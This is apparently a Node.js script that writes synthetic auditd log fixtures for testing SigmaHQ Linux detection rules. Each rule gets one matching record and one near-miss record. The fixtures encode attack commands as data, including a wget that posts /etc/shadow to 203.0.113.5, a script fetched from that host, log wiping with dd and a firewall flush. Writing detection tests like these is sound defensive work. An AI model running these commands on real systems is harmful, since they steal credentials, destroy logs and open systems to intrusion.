#!/usr/bin/env node
// Writes test/sigma/cases/<rule>/hit.log and miss.log: for each of SigmaHQ's auditd rules, the audit records
// of the attack it describes (hit: must trigger it) and of a near miss (must not). The records are what the
// kernel and auditd write for those actions on x86_64 (SYSCALL + EXECVE + CWD + PATH + PROCTITLE + EOE for
// a command; openat + PATH for a file; user-space records such as SERVICE_STOP as one line), so the rules
// are tested on the shape of real logs. Run: node packages/auditd-parse/test/sigma/make-cases.mjs
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const out = join(new URL(".", import.meta.url).pathname, "cases");

let clock = 1_767_225_600; // 2026-01-01T00:00:00Z
let serial = 1000;

/** A value as auditd writes it: quoted when plain, hex when it has a space, quote, control or non-ASCII byte. */
function enc(value) {
  return /^[\x21\x23-\x7e]*$/.test(value) && value !== "" ? `"${value}"` : Buffer.from(value).toString("hex").toUpperCase();
}

function stamp() {
  clock += 1;
  serial += 1;
  return `${clock}.${String(serial % 1000).padStart(3, "0")}:${serial}`;
}

const SYSCALLS = {
  execve: 59,
  openat: 257,
  personality: 135,
  syslog: 103,
  sysinfo: 99,
  mknod: 133,
  mknodat: 259,
  memfd_create: 319,
  finit_module: 313,
  connect: 42,
  execveat: 322,
};

function syscallLine(id, o) {
  const nr = SYSCALLS[o.syscall];
  const user = o.euid ?? 1000;
  return (
    `type=SYSCALL msg=audit(${id}): arch=c000003e syscall=${nr} success=${o.success ?? "yes"} exit=${o.exit ?? 0} ` +
    `a0=${o.a0 ?? "55d5e2f0a8c0"} a1=${o.a1 ?? "55d5e2f0b120"} a2=${o.a2 ?? "55d5e2f0b5a0"} a3=${o.a3 ?? "0"} items=${o.items ?? 0} ` +
    `ppid=2201 pid=${o.pid ?? 2345} auid=1000 uid=${user} gid=${user} euid=${user} suid=${user} fsuid=${user} egid=${user} sgid=${user} fsgid=${user} ` +
    `tty=pts0 ses=3 comm=${enc(o.comm)} exe=${enc(o.exe)} subj=unconfined key=${o.key === null ? "(null)" : enc(o.key ?? "exec")}`
  );
}

function pathLine(id, item, name, nametype = "NORMAL") {
  return `type=PATH msg=audit(${id}): item=${item} name=${enc(name)} inode=${4000 + item} dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=${nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`;
}

/** A command run from a shell: execve of argv[0] found in /usr/bin (or `exe`), with its arguments. */
function exec(argv, o = {}) {
  const id = stamp();
  const exe = o.exe ?? (argv[0].startsWith("/") ? argv[0] : `/usr/bin/${argv[0]}`);
  const comm = exe.split("/").pop().slice(0, 15);
  const args = argv.map((a, i) => `a${i}=${enc(a)}`).join(" ");
  return [
    syscallLine(id, { syscall: "execve", comm, exe, items: 2, ...o }),
    `type=EXECVE msg=audit(${id}): argc=${argv.length} ${args}`,
    `type=CWD msg=audit(${id}): cwd="/home/alice"`,
    pathLine(id, 0, exe),
    pathLine(id, 1, "/lib64/ld-linux-x86-64.so.2"),
    `type=PROCTITLE msg=audit(${id}): proctitle=${Buffer.from(argv.join("\0")).toString("hex").toUpperCase()}`,
    `type=EOE msg=audit(${id}): `,
  ];
}

/** A file opened (for writing with `nametype: CREATE` when it is new) by a process. */
function open(name, o = {}) {
  const id = stamp();
  const nametype = o.nametype ?? "NORMAL";
  const exe = o.exe ?? "/usr/bin/vim.basic";
  return [
    syscallLine(id, {
      syscall: "openat",
      comm: exe.split("/").pop(),
      exe,
      items: nametype === "CREATE" ? 2 : 1,
      a0: "ffffff9c",
      a2: "241",
      a3: "1b6",
      exit: 3,
      key: o.key ?? "watch",
    }),
    `type=CWD msg=audit(${id}): cwd="/root"`,
    ...(nametype === "CREATE"
      ? [pathLine(id, 0, name.replace(/\/[^/]*$/, "/"), "PARENT"), pathLine(id, 1, name, "CREATE")]
      : [pathLine(id, 0, name)]),
    `type=PROCTITLE msg=audit(${id}): proctitle=${Buffer.from(`vim\0${name}`).toString("hex").toUpperCase()}`,
    `type=EOE msg=audit(${id}): `,
  ];
}

/** A syscall with no file: SYSCALL + PROCTITLE + EOE. */
function call(o) {
  const id = stamp();
  return [
    syscallLine(id, o),
    `type=PROCTITLE msg=audit(${id}): proctitle=${Buffer.from(o.exe).toString("hex").toUpperCase()}`,
    `type=EOE msg=audit(${id}): `,
  ];
}

/** A user-space record (one line, its fields in msg='…'), as auditd-aware programs (systemd, shadow-utils) write them. */
function user(type, fields) {
  return [`type=${type} msg=audit(${stamp()}): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='${fields}'`];
}

// rule file name (without .yml) → records that must trigger it, and a near miss that must not
const CASES = {
  lnx_auditd_binary_padding: [exec(["truncate", "-s", "+5000", "/tmp/payload"]), exec(["truncate", "-r", "/tmp/a", "/tmp/notes"])],
  lnx_auditd_bpfdoor_port_redirect: [
    exec(["iptables", "-t", "nat", "-I", "PREROUTING", "-p", "tcp", "--dport", "443", "-j", "REDIRECT", "--to-ports", "42391"], {
      exe: "/usr/sbin/iptables",
    }),
    exec(["iptables", "-t", "nat", "-I", "PREROUTING", "-p", "tcp", "--dport", "443", "-j", "REDIRECT", "--to-ports", "8443"], {
      exe: "/usr/sbin/iptables",
    }),
  ],
  lnx_auditd_capabilities_discovery: [
    exec(["getcap", "-r", "/"], { exe: "/usr/sbin/getcap" }),
    exec(["getcap", "/usr/bin/ping"], { exe: "/usr/sbin/getcap" }),
  ],
  lnx_auditd_change_file_time_attr: [exec(["touch", "-t", "202001010000", "/tmp/backdoor"]), exec(["touch", "/tmp/newfile"])],
  lnx_auditd_chattr_immutable_removal: [exec(["chattr", "-i", "/etc/passwd"]), exec(["chattr", "+i", "/etc/passwd"])],
  lnx_auditd_clipboard_collection: [exec(["xclip", "-selection", "clipboard", "-o"]), exec(["xclip", "-selection", "clipboard", "-i"])],
  lnx_auditd_clipboard_image_collection: [
    exec(["xclip", "-selection", "clipboard", "-t", "image/png", "-o"]),
    exec(["xclip", "-selection", "clipboard", "-t", "text/plain", "-o"]),
  ],
  lnx_auditd_coinminer: [
    exec(["xmrig", "-o", "pool.example.net:3333", "--cpu-priority=5"], { exe: "/tmp/.x/xmrig" }),
    exec(["xmrig", "--help"], { exe: "/opt/xmrig/xmrig" }),
  ],
  lnx_auditd_data_compressed: [exec(["tar", "-czf", "/tmp/loot.tgz", "/etc"]), exec(["tar", "-xzf", "/tmp/release.tgz"])],
  lnx_auditd_data_exfil_wget: [
    exec(["wget", "--post-file=/etc/shadow", "http://203.0.113.5/upload"]),
    exec(["wget", "http://deb.example.org/pool/a.deb"]),
  ],
  lnx_auditd_dd_delete_file: [
    exec(["dd", "if=/dev/zero", "of=/var/log/auth.log", "bs=1M", "count=10"]),
    exec(["dd", "if=/tmp/disk.img", "of=/dev/sdb", "bs=4M"]),
  ],
  lnx_auditd_file_or_folder_permissions: [exec(["chmod", "600", "/tmp/key"]), exec(["stat", "/usr/bin/chmod"])],
  lnx_auditd_find_cred_in_files: [exec(["grep", "-ri", "password", "/etc"]), exec(["grep", "-ri", "passwd", "/etc/nsswitch.conf"])],
  lnx_auditd_hidden_files_directories: [exec(["mkdir", "/tmp/.hidden"]), exec(["mkdir", "../build"])],
  lnx_auditd_hidden_zip_files_steganography: [exec(["cat", "photo.jpg", "secret.zip"]), exec(["cat", "photo.jpg", "notes.txt"])],
  lnx_auditd_masquerading_crond: [exec(["cp", "/bin/sh", "/tmp/crond"]), exec(["cp", "/bin/sh", "/tmp/sh.bak"])],
  lnx_auditd_modify_system_firewall: [
    exec(["nft", "flush", "ruleset"], { exe: "/usr/sbin/nft" }),
    exec(["nft", "list", "ruleset"], { exe: "/usr/sbin/nft" }),
  ],
  lnx_auditd_network_sniffing: [
    exec(["tcpdump", "-c", "100", "-i", "eth0"], { exe: "/usr/sbin/tcpdump" }),
    exec(["tcpdump", "-c", "100", "-w", "out.pcap"], { exe: "/usr/sbin/tcpdump" }),
  ],
  lnx_auditd_screencapture_import: [
    exec(["import", "-window", "root", "/tmp/screen.png"]),
    exec(["import", "-window", "root", "/tmp/screen.txt"]),
  ],
  lnx_auditd_screencaputre_xwd: [exec(["xwd", "-root", "-out", "/tmp/screen.xwd"]), exec(["xwd", "-root", "-out", "/tmp/screen.png"])],
  lnx_auditd_steghide_embed_steganography: [
    exec(["steghide", "embed", "-cf", "cover.jpg", "-ef", "secret.txt"]),
    exec(["steghide", "info", "cover.jpg"]),
  ],
  lnx_auditd_steghide_extract_steganography: [
    exec(["steghide", "extract", "-sf", "cover.jpg"]),
    exec(["steghide", "extract", "-sf", "cover.bmp"]),
  ],
  lnx_auditd_susp_cmds: [exec(["chmod", "777", "/tmp/drop"]), exec(["chmod", "755", "/tmp/drop"])],
  lnx_auditd_susp_histfile_operations: [exec(["cat", "/root/.bash_history"]), exec(["cat", "/root/.bashrc"])],
  lnx_auditd_susp_service_reload_or_restart: [exec(["systemctl", "restart", "sshd"]), exec(["systemctl", "status", "sshd"])],
  lnx_auditd_system_shutdown_reboot: [
    exec(["shutdown", "-h", "now"], { exe: "/usr/sbin/shutdown" }),
    exec(["init", "3"], { exe: "/usr/sbin/init" }),
  ],
  lnx_auditd_unzip_hidden_zip_files_steganography: [exec(["unzip", "photo.jpg"]), exec(["unzip", "archive.zip"])],
  lnx_auditd_user_discovery: [exec(["whoami"]), exec(["whois", "example.com"])],
  lnx_auditd_audio_capture: [exec(["arecord", "-vv", "-fdat", "/tmp/rec.wav"]), exec(["arecord", "-l"])],
  lnx_auditd_disable_aslr_protection: [
    call({ syscall: "personality", a0: "40000", comm: "setarch", exe: "/usr/bin/setarch" }),
    call({ syscall: "personality", a0: "0", comm: "setarch", exe: "/usr/bin/setarch" }),
  ],
  lnx_auditd_keylogging_with_pam_d: [open("/etc/pam.d/system-auth"), open("/etc/pam.d/sshd")],
  lnx_auditd_password_policy_discovery: [exec(["chage", "-l", "alice"]), exec(["chage", "-E", "2030-01-01", "alice"])],
  lnx_auditd_susp_c2_commands: [
    exec(["wget", "http://203.0.113.5/x.sh"], { key: "susp_activity" }),
    exec(["wget", "http://203.0.113.5/x.sh"], { key: "network_tools" }),
  ],
  lnx_auditd_system_info_discovery: [exec(["uptime"]), exec(["grep", "root", "/etc/passwd"])],
  lnx_auditd_auditing_config_change: [open("/etc/audit/auditd.conf"), open("/etc/auditd.conf.bak")],
  lnx_auditd_bpfdoor_file_accessed: [
    open("/var/run/haldrund.pid", { exe: "/tmp/hald-addon" }),
    open("/var/run/sshd.pid", { exe: "/usr/sbin/sshd" }),
  ],
  lnx_auditd_hidden_binary_execution: [exec(["/tmp/.x/payload"]), exec(["/home/alice/.cache/tool/run"])],
  lnx_auditd_ld_so_preload_mod: [open("/etc/ld.so.preload"), open("/etc/ld.so.conf")],
  lnx_auditd_logging_config_change: [open("/etc/rsyslog.conf"), open("/etc/rsyslog.d/50-default.conf")],
  lnx_auditd_magic_system_request_key: [open("/proc/sysrq-trigger", { key: "sysrq" }), open("/proc/sys/kernel/printk")],
  lnx_auditd_system_info_discovery2: [
    open("/sys/class/dmi/id/product_name", { exe: "/usr/bin/cat" }),
    open("/sys/class/dmi/id/uevent", { exe: "/usr/bin/cat" }),
  ],
  lnx_auditd_systemd_service_creation: [
    open("/etc/systemd/system/updater.service", { nametype: "CREATE" }),
    open("/etc/systemd/system/updater.service"),
  ],
  lnx_auditd_unix_shell_configuration_modification: [open("/etc/profile.d/proxy.sh"), open("/etc/profile.bak")],
  lnx_auditd_disable_system_firewall: [
    user("SERVICE_STOP", 'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'),
    user("SERVICE_STOP", 'unit=sshd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'),
  ],
  lnx_auditd_clean_disable_dmesg_logs_via_syslog: [
    call({ syscall: "syslog", a0: "5", comm: "dmesg", exe: "/usr/bin/dmesg", euid: 0, key: "clear_dmesg_logs" }),
    call({ syscall: "syslog", a0: "3", comm: "dmesg", exe: "/usr/bin/dmesg", euid: 0, key: "read_dmesg_logs" }),
  ],
  lnx_auditd_create_account: [
    user("ADD_USER", 'op=adding user id=1001 exe="/usr/sbin/useradd" hostname=web1 addr=? terminal=pts/0 res=success'),
    user("USER_MGMT", 'op=changing user id=1001 exe="/usr/sbin/usermod" hostname=web1 addr=? terminal=pts/0 res=success'),
  ],
  lnx_auditd_load_module_insmod: [
    call({ syscall: "finit_module", a0: "3", comm: "insmod", exe: "/usr/bin/kmod", euid: 0, key: "modules" }),
    call({ syscall: "finit_module", a0: "3", comm: "modprobe", exe: "/usr/bin/kmod", euid: 0, key: "modules" }),
  ],
  lnx_auditd_network_service_scanning: [
    call({ syscall: "connect", a0: "3", comm: "nmap", exe: "/usr/bin/nmap", success: "no", exit: -111, key: "network_connect_4" }),
    call({ syscall: "connect", a0: "3", comm: "curl", exe: "/usr/bin/curl", key: "network_connect_4" }),
  ],
  lnx_auditd_split_file_into_pieces: [exec(["split", "-b", "1M", "/tmp/loot.tgz"]), exec(["csplit", "notes.txt", "/^--/"])],
  lnx_auditd_susp_discovery_sysinfo_syscall: [
    call({ syscall: "sysinfo", comm: "uptime", exe: "/usr/bin/uptime", key: "discovery_sysinfo_syscall" }),
    call({ syscall: "sysinfo", comm: "splunkd", exe: "/opt/splunk/bin/splunkd", key: "discovery_sysinfo_syscall" }),
  ],
  lnx_auditd_susp_exe_folders: [exec(["/tmp/kworker"], { exe: "/tmp/kworker" }), exec(["/opt/tmp/tool"], { exe: "/opt/tmp/tool" })],
  lnx_auditd_susp_special_file_creation_via_mknod_syscall: [
    call({ syscall: "mknod", comm: "mknod", exe: "/usr/bin/mknod", euid: 0 }),
    call({ syscall: "mknodat", comm: "mknod", exe: "/usr/bin/mknod", euid: 0 }),
  ],
  lnx_auditd_web_rce: [exec(["id"], { euid: 33, key: "detect_execve_www" }), exec(["id"], { euid: 1000, key: "detect_execve_www" })],
};

rmSync(out, { recursive: true, force: true });
for (const [rule, [hit, miss]] of Object.entries(CASES)) {
  mkdirSync(join(out, rule), { recursive: true });
  writeFileSync(join(out, rule, "hit.log"), `${hit.join("\n")}\n`);
  writeFileSync(join(out, rule, "miss.log"), `${miss.join("\n")}\n`);
}
console.log(`${Object.keys(CASES).length} rules`);
